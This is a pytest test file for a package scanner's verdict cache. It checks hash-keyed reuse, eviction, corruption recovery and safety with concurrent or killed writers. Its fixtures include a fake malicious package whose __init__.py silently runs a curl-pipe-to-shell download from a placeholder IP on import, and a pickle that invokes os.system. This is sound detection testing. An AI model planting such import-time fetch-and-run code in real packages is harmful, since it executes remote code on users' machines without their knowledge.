"""The verdict store: reuse only for the same bytes and fingerprint, shared by concurrent
processes, whole verdicts or none, and never an error stored as clean."""

from __future__ import annotations

import errno
import signal
import sqlite3
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from scanner import verdicts
from scanner.checks.heuristics import content
from scanner.checks.heuristics.content import check_heuristics
from scanner.checks.interface import CheckContext
from scanner.infra import hash_cache, verdict_store
from scanner.infra.verdict_store import STORE_FILE, VerdictStore
from scanner.models import Finding, Inventory, Severity
from scanner.options import ScanOptions
from scanner.sources.environment import collect_environment
from scanner.verdicts import ContentFinding, Verdict
from tests.helpers.wheels import install_wheel, make_wheel, refresh_record

REPO = Path(__file__).resolve().parents[2]
BAD = (
    "import os, subprocess, threading\n"
    "def _go():\n"
    "    subprocess.Popen(['curl', '-s', 'http://203.0.113.9/x.sh', '|', 'sh'], shell=True)\n"
    "threading.Thread(target=_go, daemon=True).start()\n"
)


def sample(kind: str = "k", n: int = 0) -> Verdict:
    finding = ContentFinding("WS-TEST-001", Severity.HIGH, f"m{n}", member=f"a/{n}.py", line=n)
    return Verdict(kind, (finding,))


def test_round_trip_and_incomplete_verdicts_are_refused(tmp_path: Path) -> None:
    with VerdictStore.open(tmp_path) as store:  # type: ignore[union-attr]
        assert store.put("a" * 64, sample())
        assert not store.put("b" * 64, Verdict("k", (), complete=False))
        assert store.get("a" * 64) == sample()
        assert store.get("b" * 64) is None
    mode = (tmp_path / STORE_FILE).stat().st_mode & 0o777
    assert mode == 0o600


def test_eviction_keeps_the_store_bounded(tmp_path: Path) -> None:
    store = VerdictStore(tmp_path / STORE_FILE, max_bytes=20_000)
    for i in range(400):
        store.put(f"{i:064x}", sample(n=i))
    size = store._db.execute("SELECT sum(size) FROM verdicts").fetchone()[0]
    assert 0 < size <= 20_000
    assert store.get(f"{399:064x}") == sample(n=399)  # the newest stay
    assert store.get(f"{0:064x}") is None  # the oldest went
    store.close()


def test_a_corrupt_row_is_a_miss_and_a_corrupt_file_is_rebuilt(tmp_path: Path) -> None:
    store = VerdictStore(tmp_path / STORE_FILE)
    store.put("a" * 64, sample())
    store._db.execute("UPDATE verdicts SET body = '{\"schema\": 1}'")
    assert store.get("a" * 64) is None
    assert store.count() == 0  # and it is gone
    store.close()
    (tmp_path / STORE_FILE).write_bytes(b"not a database at all" * 100)
    with VerdictStore.open(tmp_path) as again:  # type: ignore[union-attr]
        assert again.put("c" * 64, sample())
        assert again.get("c" * 64) == sample()


# -- through the heuristics check --------------------------------------------------------


@pytest.fixture()
def env_site(tmp_path: Path) -> Path:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    bad = make_wheel(wheels, "evilpkg", "1.0", {"evilpkg/__init__.py": BAD})
    good = make_wheel(wheels, "goodpkg", "2.0", {"goodpkg/__init__.py": "import os\nX = 1\n"})
    install_wheel(bad, site)
    install_wheel(good, site)
    return site


@pytest.fixture()
def judged(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Names of the distributions the rules judged (a store hit judges nothing)."""
    calls: list[str] = []
    real = content.content_findings

    def counting(view: object, rules: object) -> list[ContentFinding]:
        calls.append(getattr(view, "name", None) or "?")
        return real(view, rules)  # type: ignore[arg-type]

    monkeypatch.setattr(content, "content_findings", counting)
    return calls


def scan(site: Path, cache: Path, **kw: object) -> list[Finding]:
    options = ScanOptions(cache_dir=cache, **kw)  # type: ignore[arg-type]
    env = collect_environment(site)
    return list(check_heuristics(Inventory(environments=(env,)), CheckContext(options)).findings)


def stored(cache: Path) -> int:
    store = VerdictStore.open(cache)
    assert store is not None
    try:
        return store.count()
    finally:
        store.close()


def test_a_repeat_scan_reuses_verdicts_and_gives_the_same_findings(
    env_site: Path, tmp_path: Path, judged: list[str]
) -> None:
    cache = tmp_path / "cache"
    first = scan(env_site, cache)
    assert sorted(judged) == ["evilpkg", "goodpkg"]
    assert any(f.package == "evilpkg" and f.severity >= Severity.HIGH for f in first)
    judged.clear()
    assert scan(env_site, cache) == first
    assert judged == []
    # --no-cache judges everything again and stores nothing new
    assert scan(env_site, cache, use_cache=False) == first
    assert sorted(judged) == ["evilpkg", "goodpkg"]


def test_a_one_byte_change_is_judged_again(
    env_site: Path, tmp_path: Path, judged: list[str]
) -> None:
    cache = tmp_path / "cache"
    scan(env_site, cache)
    target = env_site / "goodpkg" / "__init__.py"
    target.write_text("import os\nX = 2\n")  # same size, one byte differs
    judged.clear()
    scan(env_site, cache)
    assert judged == ["goodpkg"]
    # the same bytes copied into a new distribution reuse nothing of the old key: the
    # manifest (paths and hashes) decides, and a bad file appearing is seen at once
    target.write_text(BAD)
    refresh_record(next(env_site.glob("goodpkg-*.dist-info")))
    judged.clear()
    after = scan(env_site, cache)
    assert judged == ["goodpkg"]
    assert any(f.package == "goodpkg" and f.severity >= Severity.HIGH for f in after)


def test_a_changed_rule_file_is_judged_again(
    env_site: Path, tmp_path: Path, judged: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    from scanner.infra.resources import rules_dir

    rules = tmp_path / "rules"
    shutil.copytree(rules_dir(), rules)
    monkeypatch.setattr(verdicts, "rules_dir", lambda: rules)
    verdicts._static_fingerprint.cache_clear()
    cache = tmp_path / "cache"
    scan(env_site, cache)
    judged.clear()
    scan(env_site, cache)
    assert judged == []
    rule = sorted(rules.rglob("WS-*.toml"))[-1]
    rule.write_text(rule.read_text() + "\n# edited\n")
    verdicts._static_fingerprint.cache_clear()
    scan(env_site, cache)
    assert sorted(judged) == ["evilpkg", "goodpkg"]
    verdicts._static_fingerprint.cache_clear()


def test_an_unreadable_file_is_never_stored(
    env_site: Path, tmp_path: Path, judged: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    real = content.hash_files
    victim = env_site / "evilpkg" / "__init__.py"

    def failing(paths: object, cache: object = None, workers: object = None) -> dict[Path, object]:
        out: dict[Path, object] = dict(real(paths, cache))  # type: ignore[call-overload]
        if victim in out:
            out[victim] = OSError(errno.EIO, "I/O error", str(victim))
        return out

    monkeypatch.setattr(content, "hash_files", failing)
    cache = tmp_path / "cache"
    scan(env_site, cache)
    assert stored(cache) == 1  # goodpkg only
    monkeypatch.setattr(content, "hash_files", real)
    judged.clear()
    scan(env_site, cache)
    assert judged == ["evilpkg"]
    assert stored(cache) == 2


def test_a_file_that_changes_after_hashing_is_not_stored(
    env_site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = content.view_of_installed
    victim = env_site / "evilpkg" / "__init__.py"

    def swapping(dist: object, files: object = None) -> object:
        if getattr(dist, "name", None) == "evilpkg":
            victim.write_text("X = 1\n")  # benign now: judged clean, but not what was hashed
        return real(dist, files)  # type: ignore[arg-type]

    monkeypatch.setattr(content, "view_of_installed", swapping)
    cache = tmp_path / "cache"
    scan(env_site, cache)
    assert stored(cache) == 1  # goodpkg only: the evilpkg verdict was for another content


def test_an_interrupted_scan_leaves_no_partial_verdict(
    env_site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = content.content_findings
    seen: list[str] = []

    def interrupted(view: object, rules: object) -> list[ContentFinding]:
        seen.append(getattr(view, "name", "?"))
        if len(seen) == 2:
            raise KeyboardInterrupt
        return real(view, rules)  # type: ignore[arg-type]

    monkeypatch.setattr(content, "content_findings", interrupted)
    cache = tmp_path / "cache"
    with pytest.raises(KeyboardInterrupt):
        scan(env_site, cache)
    assert stored(cache) == 0
    monkeypatch.setattr(content, "content_findings", real)
    assert any(f.package == "evilpkg" for f in scan(env_site, cache))
    assert stored(cache) == 2


# -- processes ------------------------------------------------------------------------------

WRITER = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from scanner.infra.verdict_store import VerdictStore
    from scanner.models import Severity
    from scanner.verdicts import ContentFinding, Verdict
    store = VerdictStore.open(Path(sys.argv[1]))
    tag, rounds = sys.argv[2], int(sys.argv[3])
    print("ready", flush=True)
    for r in range(rounds):
        batch = []
        for i in range(50):
            f = ContentFinding("WS-TEST-001", Severity.HIGH, "x" * 200, member=f"{tag}/{r}/{i}")
            batch.append((f"{tag}-{r}-{i}", Verdict("k", (f,) * 5)))
        assert store.put_many(batch) == 50
        store.get_many([k for k, _ in batch])
    store.close()
    """
)


def writer(cache: Path, tag: str, rounds: int) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-c", WRITER, str(cache), tag, str(rounds)],
        cwd=REPO,
        stdout=subprocess.PIPE,
        text=True,
    )


def rows(cache: Path) -> Iterator[tuple[str, str]]:
    db = sqlite3.connect(cache / STORE_FILE)
    try:
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        yield from db.execute("SELECT key, body FROM verdicts")
    finally:
        db.close()


def reap(procs: list[subprocess.Popen[str]]) -> list[int]:
    """Wait for every process (killing the ones that outlive the wait) and close its pipe."""
    return [reap_one(p) for p in procs]


def reap_one(proc: subprocess.Popen[str]) -> int:
    try:
        return proc.wait(timeout=120)
    except subprocess.TimeoutExpired:
        proc.kill()
        return proc.wait()
    finally:
        if proc.stdout is not None:
            proc.stdout.close()


def test_two_processes_share_the_store_without_corruption(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    procs = [writer(cache, tag, 20) for tag in ("a", "b", "c")]
    assert reap(procs) == [0, 0, 0]
    found = dict(rows(cache))
    assert len(found) == 3 * 20 * 50
    for body in found.values():
        assert Verdict.from_json(body).complete


def test_a_locked_store_is_left_alone_not_rebuilt(tmp_path: Path) -> None:
    # "database is locked" is an OperationalError, itself a DatabaseError: taking it for
    # corruption deleted the file another scan was writing (a CI failure, two writers).
    cache = tmp_path / "cache"
    cache.mkdir(mode=0o700)
    path = cache / STORE_FILE
    holder = sqlite3.connect(path, isolation_level=None)
    try:
        holder.execute("BEGIN EXCLUSIVE")
        holder.execute("CREATE TABLE other (x)")
        inode = path.stat().st_ino
        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(hash_cache, "_OPEN_RETRY_S", 0.2)
            mp.setattr(verdict_store, "_BUSY_TIMEOUT_MS", 50)
            assert VerdictStore.open(cache) is None
        assert path.stat().st_ino == inode
    finally:
        holder.close()
    store = VerdictStore.open(cache)
    assert store is not None and path.stat().st_ino == inode
    store.close()


def test_a_store_locked_for_a_moment_opens_after_a_retry(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Two processes creating the file at once can deadlock in SQLite's locks, which then
    # answers "locked" at once instead of waiting: opening retries.
    real = VerdictStore._connect
    failures = iter([True, True])

    def flaky(self: VerdictStore) -> sqlite3.Connection:
        if next(failures, False):
            raise sqlite3.OperationalError("database is locked")
        return real(self)

    monkeypatch.setattr(VerdictStore, "_connect", flaky)
    store = VerdictStore.open(tmp_path / "cache")
    assert store is not None
    assert store.put("k", Verdict("k", ())) and store.get("k") is not None
    store.close()


def test_a_killed_writer_leaves_whole_verdicts_only(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    proc = writer(cache, "k", 100_000)
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
    time.sleep(0.5)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    proc.stdout.close()
    found = dict(rows(cache))
    assert found, "the writer stored nothing before it was killed"
    batches: dict[str, int] = {}
    for key, body in found.items():
        assert Verdict.from_json(body).complete
        _, r, _ = key.split("-")
        batches[r] = batches.get(r, 0) + 1
    assert set(batches.values()) == {50}  # each transaction whole or absent
    with VerdictStore.open(cache) as store:  # type: ignore[union-attr]
        assert store.put("after", sample())


def test_cache_dir_and_jobs_come_from_the_config(tmp_path: Path) -> None:
    from scanner.errors import ConfigError
    from scanner.policy import apply_config, parse_config

    config = parse_config({"cache-dir": "cache", "jobs": 3}, tmp_path / "wormsign.toml")
    options = apply_config(ScanOptions(), config)
    assert options.cache_dir == tmp_path / "cache"
    assert options.jobs == 3
    assert apply_config(ScanOptions(jobs=1), config, {"jobs"}).jobs == 1
    with pytest.raises(ConfigError, match="jobs"):
        parse_config({"jobs": 0}, tmp_path / "wormsign.toml")


def test_model_verdicts_follow_the_bytes_not_the_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from scanner.checks.models import check as model_content
    from scanner.checks.models.check import check_model_files
    from scanner.models import ModelFile

    scanned: list[str] = []
    real = model_content.scan_model_file

    def counting(path: Path) -> object:
        scanned.append(path.name)
        return real(path)

    monkeypatch.setattr(model_content, "scan_model_file", counting)
    evil = b"cos\nsystem\n(S'echo hi'\ntR."  # never loaded: read as opcodes only
    a = tmp_path / "a" / "model.pkl"
    b = tmp_path / "b" / "model.pkl"
    for p in (a, b):
        p.parent.mkdir()
        p.write_bytes(evil)
    cache = tmp_path / "cache"

    def judge(path: Path) -> list[Finding]:
        inv = Inventory(model_files=(ModelFile(path, path.stat().st_size),))
        return list(check_model_files(inv, CheckContext(ScanOptions(cache_dir=cache))).findings)

    first = judge(a)
    assert [f.rule_id for f in first] == ["WS-PICKLE-001"] and first[0].path == str(a)
    assert judge(a) == first
    copy = judge(b)  # same bytes, same name, elsewhere: judged once
    assert scanned == ["model.pkl"]
    assert [f.path for f in copy] == [str(b)]
    b.write_bytes(evil.replace(b"echo hi", b"echo ho"))
    judge(b)
    assert scanned == ["model.pkl", "model.pkl"]
